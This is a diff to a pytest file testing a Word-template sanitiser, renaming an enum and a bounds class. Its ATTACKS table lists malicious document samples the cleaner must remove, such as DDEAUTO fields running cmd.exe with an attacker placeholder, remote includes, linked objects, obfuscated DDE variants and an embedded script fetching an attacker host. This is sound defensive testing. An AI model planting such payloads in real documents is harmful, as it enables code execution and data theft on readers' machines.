@@ -15,11 +15,11 @@ import pytest
 from app.report.document.build_document import ReportOptions
 from app.report.document.written import word_template as cleaning
 from app.report.document.written.docx import docx_report
-from app.report.document.written.word_template import Removed, cleaned, word_template
+from app.report.document.written.word_template import RemovedPart, cleaned, word_template
 from app.report.figures.campaign_report import CampaignReport, report_on
 from app.report.files.export import export, removed_from_template
 from app.results.store.store import open_store
-from app.system.bounded import Bounds, OutOfBounds
+from app.system.bounded import OutOfBounds, ResourceBounds
 from engines.contract.errors import InputError
 from tests.app.results.noisy import costly_campaign, store_costs
 
@@ -241,89 +241,89 @@ def drawing(inside: str) -> Change:
     return change
 
 
-ATTACKS: Mapping[str, tuple[Change, Removed]] = {
-    "a remote template": (remote_template, Removed.REMOTE_TEMPLATE),
-    "macros": (with_macros, Removed.MACRO),
-    "DDEAUTO": (field(f' DDEAUTO c:\\\\cmd.exe "/k {EVIL}" '), Removed.FIELD),
-    "DDE in two runs": (field(" DD", f"E cmd {EVIL} "), Removed.FIELD),
-    "small letters": (field(f" ddeauto cmd {EVIL} "), Removed.FIELD),
-    "a computed name": (field(inner, f" cmd {EVIL} "), Removed.FIELD),
-    "DDE after a field": (field(f" IF 1 = 1 {EVIL} "), Removed.FIELD),
-    "INCLUDEPICTURE": (field(f' INCLUDEPICTURE "http://{EVIL}/x.png" \\d '), Removed.FIELD),
-    "INCLUDETEXT": (field(f' INCLUDETEXT "\\\\\\\\{EVIL}\\\\x" '), Removed.FIELD),
-    "a field that is a link": (field(f' HYPERLINK "http://{EVIL}" '), Removed.FIELD),
-    "a simple field": (simple_field(f"DDEAUTO cmd {EVIL}"), Removed.FIELD),
+ATTACKS: Mapping[str, tuple[Change, RemovedPart]] = {
+    "a remote template": (remote_template, RemovedPart.REMOTE_TEMPLATE),
+    "macros": (with_macros, RemovedPart.MACRO),
+    "DDEAUTO": (field(f' DDEAUTO c:\\\\cmd.exe "/k {EVIL}" '), RemovedPart.FIELD),
+    "DDE in two runs": (field(" DD", f"E cmd {EVIL} "), RemovedPart.FIELD),
+    "small letters": (field(f" ddeauto cmd {EVIL} "), RemovedPart.FIELD),
+    "a computed name": (field(inner, f" cmd {EVIL} "), RemovedPart.FIELD),
+    "DDE after a field": (field(f" IF 1 = 1 {EVIL} "), RemovedPart.FIELD),
+    "INCLUDEPICTURE": (field(f' INCLUDEPICTURE "http://{EVIL}/x.png" \\d '), RemovedPart.FIELD),
+    "INCLUDETEXT": (field(f' INCLUDETEXT "\\\\\\\\{EVIL}\\\\x" '), RemovedPart.FIELD),
+    "a field that is a link": (field(f' HYPERLINK "http://{EVIL}" '), RemovedPart.FIELD),
+    "a simple field": (simple_field(f"DDEAUTO cmd {EVIL}"), RemovedPart.FIELD),
     "a field without an end": (
         lambda parts: body(
             parts,
             paragraph(f"{mark('begin')}<w:r><w:instrText> DDE {EVIL} </w:instrText></w:r>"),
         ),
-        Removed.FIELD,
+        RemovedPart.FIELD,
     ),
-    "a linked picture": (refers("image", paragraph(BLIP)), Removed.LINKED_PICTURE),
-    "an old linked picture": (refers("image", paragraph(PICTURE)), Removed.LINKED_PICTURE),
-    "a linked object": (refers("oleObject", paragraph(OBJECT)), Removed.OBJECT),
+    "a linked picture": (refers("image", paragraph(BLIP)), RemovedPart.LINKED_PICTURE),
+    "an old linked picture": (refers("image", paragraph(PICTURE)), RemovedPart.LINKED_PICTURE),
+    "a linked object": (refers("oleObject", paragraph(OBJECT)), RemovedPart.OBJECT),
     "an embedded object": (
         refers("oleObject", paragraph(OBJECT), "embeddings.bin", external=False),
-        Removed.OBJECT,
+        RemovedPart.OBJECT,
     ),
     "ActiveX": (
         refers("control", paragraph(CONTROL), "activeX.xml", external=False),
-        Removed.OBJECT,
+        RemovedPart.OBJECT,
     ),
     "another document": (
         refers("aFChunk", f"<w:altChunk {NAMES} r:id='rEvil'/>", "chunk.html", external=False),
-        Removed.OTHER,
+        RemovedPart.OTHER,
     ),
     "a part of the document elsewhere": (
         refers("subDocument", f"<w:subDoc {NAMES} r:id='rEvil'/>"),
-        Removed.OTHER,
+        RemovedPart.OTHER,
     ),
     "a link": (
         refers("hyperlink", paragraph(LINK)),
-        Removed.LINK,
+        RemovedPart.LINK,
     ),
-    "a relationship that nobody names": (refers("frame", ""), Removed.OTHER),
+    "a relationship that nobody names": (refers("frame", ""), RemovedPart.OTHER),
     "a field in a part of another name": (
-        renamed(DOCUMENT, "word/document.dat", field(f" DDEAUTO cmd {EVIL} ")), Removed.FIELD,
+        renamed(DOCUMENT, "word/document.dat", field(f" DDEAUTO cmd {EVIL} ")), RemovedPart.FIELD,
     ),
     "a field in a part in capitals": (
-        renamed(DOCUMENT, "word/DOCUMENT.XML", field(f" DDEAUTO cmd {EVIL} ")), Removed.FIELD,
+        renamed(DOCUMENT, "word/DOCUMENT.XML", field(f" DDEAUTO cmd {EVIL} ")), RemovedPart.FIELD,
     ),
     "relationships in capitals": (
         renamed("word/_rels/settings.xml.rels", "word/_rels/settings.xml.RELS", remote_template),
-        Removed.REMOTE_TEMPLATE,
+        RemovedPart.REMOTE_TEMPLATE,
     ),
-    "a source of a mail merge": (hooked(MERGE), Removed.OTHER),
-    "a program of a smart document": (hooked(SMART), Removed.OTHER),
-    "a smart tag": (hooked(TAG), Removed.OTHER),
-    "an old picture's source": (lambda parts: body(parts, paragraph(SOURCE)), Removed.LINK),
-    "an old drawing's link": (lambda parts: body(parts, paragraph(CLICK)), Removed.LINK),
+    "a source of a mail merge": (hooked(MERGE), RemovedPart.OTHER),
+    "a program of a smart document": (hooked(SMART), RemovedPart.OTHER),
+    "a smart tag": (hooked(TAG), RemovedPart.OTHER),
+    "an old picture's source": (lambda parts: body(parts, paragraph(SOURCE)), RemovedPart.LINK),
+    "an old drawing's link": (lambda parts: body(parts, paragraph(CLICK)), RemovedPart.LINK),
     "a name that is a text": (
-        field_of(run_of("DDE ", "t") + run_of(f" PAGE {EVIL}")), Removed.FIELD,
+        field_of(run_of("DDE ", "t") + run_of(f" PAGE {EVIL}")), RemovedPart.FIELD,
     ),
-    "a second choice": (field_of(CHOICES), Removed.FIELD),
-    "a name in what Word skips": (field_of(SKIPPED), Removed.FIELD),
-    "a name behind one that is deleted": (field_of(DELETED), Removed.FIELD),
-    "a name behind a note": (field_of(run_of(f" PAGE <?x y?>DDE {EVIL} ")), Removed.FIELD),
-    "an address behind a place": (field(f' HYPERLINK \\l "x" "http://{EVIL}" '), Removed.FIELD),
-    "a header that is called a picture": (called_a_picture, Removed.FIELD),
+    "a second choice": (field_of(CHOICES), RemovedPart.FIELD),
+    "a name in what Word skips": (field_of(SKIPPED), RemovedPart.FIELD),
+    "a name behind one that is deleted": (field_of(DELETED), RemovedPart.FIELD),
+    "a name behind a note": (field_of(run_of(f" PAGE <?x y?>DDE {EVIL} ")), RemovedPart.FIELD),
+    "an address behind a place": (field(f' HYPERLINK \\l "x" "http://{EVIL}" '), RemovedPart.FIELD),
+    "a header that is called a picture": (called_a_picture, RemovedPart.FIELD),
     "a drawing of a linked picture": (
-        drawing(f'<image href="http://{EVIL}/x.png"/>'), Removed.LINKED_PICTURE,
+        drawing(f'<image href="http://{EVIL}/x.png"/>'), RemovedPart.LINKED_PICTURE,
     ),
     "a drawing of a linked style": (
-        drawing(f"<style>@import 'http://{EVIL}/x.css';</style>"), Removed.LINKED_PICTURE,
+        drawing(f"<style>@import 'http://{EVIL}/x.css';</style>"), RemovedPart.LINKED_PICTURE,
     ),
     "a drawing of a linked fill": (
-        drawing(f'<rect fill="url( http://{EVIL}/x#a)"/>'), Removed.LINKED_PICTURE,
+        drawing(f'<rect fill="url( http://{EVIL}/x#a)"/>'), RemovedPart.LINKED_PICTURE,
     ),
     "a drawing with a script": (
-        drawing(f"<script>fetch('http://{EVIL}')</script>"), Removed.LINKED_PICTURE,
+        drawing(f"<script>fetch('http://{EVIL}')</script>"), RemovedPart.LINKED_PICTURE,
     ),
-    "an object without a part": (lambda parts: body(parts, paragraph(OLE)), Removed.OBJECT),
-    "an old object": (lambda parts: body(parts, paragraph(OLD_LINK)), Removed.OBJECT),
-    "an old control": (lambda parts: body(parts, paragraph(OLD_CONTROL)), Removed.OBJECT),
-    "an old script": (lambda parts: body(parts, paragraph(SCRIPT)), Removed.OTHER),
+    "an object without a part": (lambda parts: body(parts, paragraph(OLE)), RemovedPart.OBJECT),
+    "an old object": (lambda parts: body(parts, paragraph(OLD_LINK)), RemovedPart.OBJECT),
+    "an old control": (lambda parts: body(parts, paragraph(OLD_CONTROL)), RemovedPart.OBJECT),
+    "an old script": (lambda parts: body(parts, paragraph(SCRIPT)), RemovedPart.OTHER),
 }  # fmt: skip
 
 
@@ -410,7 +410,7 @@ def test_that_a_picture_stays_without_its_link() -> None:
     click = b"<wp:docPr><a:hlinkClick " + NAMES.encode() + b" r:id='rEvil'/></wp:docPr>"
     parts[DOCUMENT] = re.sub(rb"<wp:docPr [^>]*/>", click, parts[DOCUMENT])
     found = cleaned(packed(parts))
-    assert found.removed == {Removed.LINK: 1}
+    assert found.removed == {RemovedPart.LINK: 1}
     left = unpacked(found.data)
     check_harmless(left)
     assert b"<a:blip" in left[DOCUMENT]
@@ -510,7 +510,7 @@ def test_that_a_template_has_bounds(tmp_path: Path, monkeypatch: pytest.MonkeyPa
     parts = sound()
     parts["word/media/x.png"] = bytes(190_000_000)
     template.write_bytes(packed(parts))
-    monkeypatch.setattr(cleaning, "BOUNDS", Bounds(seconds=5, megabytes=100))
+    monkeypatch.setattr(cleaning, "BOUNDS", ResourceBounds(seconds=5, megabytes=100))
     with pytest.raises(InputError, match="takes more than 100 MB"):
         word_template(template)
 
